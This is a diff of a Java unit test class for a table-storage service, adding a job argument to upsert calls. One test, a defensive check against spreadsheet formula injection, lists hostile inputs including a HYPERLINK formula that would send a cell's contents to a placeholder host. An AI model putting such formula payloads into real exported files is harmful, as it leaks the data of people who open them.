@@ -40,7 +40,7 @@ class TablesTest {
     @BeforeEach
     void tables() {
         store = new LocalFiles(folder);
-        tables = new Tables(store);
+        tables = new Tables(store, new ForgetfulPuts());
     }
 
     @Test
@@ -78,19 +78,19 @@ class TablesTest {
     @CsvSource({"orders.csv", "orders.json"})
     void aRowIsThereOnceForItsKey(String name) {
         FilePath path = new FilePath(name);
-        assertThat(done(tables.put(path, row("number", "U-1", "total", 5), "number", false))
+        assertThat(done(tables.put(path, row("number", "U-1", "total", 5), "number", false, "job 1"))
                         .added())
                 .isTrue();
-        assertThat(done(tables.put(path, row("number", "U-1", "total", 7), "number", false))
+        assertThat(done(tables.put(path, row("number", "U-1", "total", 7), "number", false, "job 1"))
                         .added())
                 .isFalse();
-        assertThat(done(tables.put(path, row("number", "U-2", "country", "DE"), "number", false))
+        assertThat(done(tables.put(path, row("number", "U-2", "country", "DE"), "number", false, "job 1"))
                         .rows())
                 .isEqualTo(2);
         assertThat(done(tables.read(path, new Choice(List.of("number", "total", "country"), ""), 9))
                         .rows())
                 .hasToString("[{number=U-1, total=5, country=null}, {number=U-2, total=null, country=DE}]");
-        assertThat(done(tables.put(path, row("number", "U-1", "total", 9), "number", true))
+        assertThat(done(tables.put(path, row("number", "U-1", "total", 9), "number", true, "job 1"))
                         .added())
                 .isFalse();
         assertThat(done(tables.read(path, new Choice(List.of("total"), "number = \"U-1\""), 9))
@@ -104,7 +104,8 @@ class TablesTest {
             List<Callable<TableResult<TableResult.Put>>> puts = IntStream.range(0, 24)
                     .<Callable<TableResult<TableResult.Put>>>mapToObj(i ->
                             // each of its own service, as in two processes
-                            () -> new Tables(store).put(ORDERS, row("number", "U-" + i % 12), "number", false))
+                            () -> new Tables(store, new ForgetfulPuts())
+                                    .put(ORDERS, row("number", "U-" + i % 12), "number", false, "job 1"))
                     .toList();
             for (var put : writers.invokeAll(puts)) {
                 done(put.get());
@@ -166,8 +167,8 @@ class TablesTest {
         given(ORDERS, "number\nU-1\n");
         assertThat(tables.read(ORDERS, new Choice(List.of("total"), ""), 5))
                 .isEqualTo(new Malformed<>("reports/orders.csv: there is no column 'total'; the columns are [number]"));
-        assertThat(tables.put(ORDERS, row("id", 1), "id", false)).isInstanceOf(Malformed.class);
-        assertThatThrownBy(() -> tables.put(ORDERS, row("number", ""), "number", false))
+        assertThat(tables.put(ORDERS, row("id", 1), "id", false, "job 1")).isInstanceOf(Malformed.class);
+        assertThatThrownBy(() -> tables.put(ORDERS, row("number", ""), "number", false, "job 1"))
                 .hasMessageContaining("a value for its key column 'number'");
         assertThatThrownBy(() -> tables.read(ORDERS, new Choice(List.of(), "total >"), 5))
                 .hasMessageContaining("expected the filter to be FEEL");
@@ -179,7 +180,7 @@ class TablesTest {
     void whatSomebodyTypedIsNoFormulaToATableProgramAndComesBackAsItWas() {
         List<String> texts = List.of("=HYPERLINK(\"http://x/?\"&A1)", "@sum", "+49 30 1", "'=1", "'", "-5", "it's");
         for (String text : texts) {
-            done(tables.put(ORDERS, row("number", text, "left", -1), "number", false));
+            done(tables.put(ORDERS, row("number", text, "left", -1), "number", false, "job 1"));
         }
         assertThat(content(ORDERS).lines())
                 .containsExactly(
@@ -191,7 +192,7 @@ class TablesTest {
                         "',-1",
                         "-5,-1",
                         "it's,-1");
-        assertThat(done(tables.put(ORDERS, row("number", "@sum", "left", 2), "number", true))
+        assertThat(done(tables.put(ORDERS, row("number", "@sum", "left", 2), "number", true, "job 1"))
                         .rows())
                 .isEqualTo(texts.size());
         assertThat(done(tables.read(ORDERS, new Choice(List.of("number"), "left = -1"), 9))
@@ -204,8 +205,8 @@ class TablesTest {
     @CsvSource({"orders.csv", "orders.json"})
     void smallAndLargeNumbersAreFoundAsNumbersAndAsKeys(String name) {
         FilePath path = new FilePath(name);
-        done(tables.put(path, row("id", 1.0E7, "rate", 0.0005, "sum", 12_345_678.5), "id", false));
-        assertThat(done(tables.put(path, row("id", 1.0E7, "rate", 1), "id", false))
+        done(tables.put(path, row("id", 1.0E7, "rate", 0.0005, "sum", 12_345_678.5), "id", false, "job 1"));
+        assertThat(done(tables.put(path, row("id", 1.0E7, "rate", 1), "id", false, "job 1"))
                         .added())
                 .isFalse();
         assertThat(done(tables.read(path, new Choice(List.of(), "rate < 0.001 and sum > 12345678"), 9))
